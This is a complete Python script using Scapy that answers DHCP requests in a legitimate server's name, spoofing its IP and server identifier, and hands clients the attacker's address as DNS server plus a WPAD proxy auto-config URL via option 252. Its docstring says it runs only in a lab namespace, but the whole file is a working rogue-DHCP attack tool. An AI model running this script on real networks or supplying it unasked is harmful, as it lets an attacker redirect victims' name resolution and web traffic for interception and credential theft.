#!/usr/bin/python3
"""Answers DHCP in another server's name: its IP source and server identifier, our hardware address and option 252.
dhcp_spoofer.py SERVER-ADDRESS OWN-ADDRESS [PAC-URL]. Runs in a lab namespace only."""
import sys
from scapy.all import BOOTP, DHCP, IP, UDP, Ether, get_if_hwaddr, sendp, sniff

server, own = sys.argv[1:3]
url = sys.argv[3] if len(sys.argv) > 3 else f"http://{own}/wpad.dat"
mac = get_if_hwaddr("eth0")


def answer(frame):
    kind = dict(o[:2] for o in frame[DHCP].options if isinstance(o, tuple))["message-type"]
    if kind not in (1, 3):
        return
    offered = own.rsplit(".", 1)[0] + ".180"
    sendp(
        Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=server, dst="255.255.255.255", id=0) / UDP(sport=67, dport=68)
        / BOOTP(op=2, xid=frame[BOOTP].xid, chaddr=frame[BOOTP].chaddr, yiaddr=offered, siaddr=server)
        / DHCP(options=[("message-type", 2 if kind == 1 else 5), ("server_id", server), ("lease_time", 60), ("subnet_mask", "255.255.255.0"),
                        ("router", server), ("name_server", own), (252, url.encode()), "end"]),
        iface="eth0", verbose=False)


sniff(iface="eth0", filter="udp dst port 67", prn=answer, store=False, timeout=30)
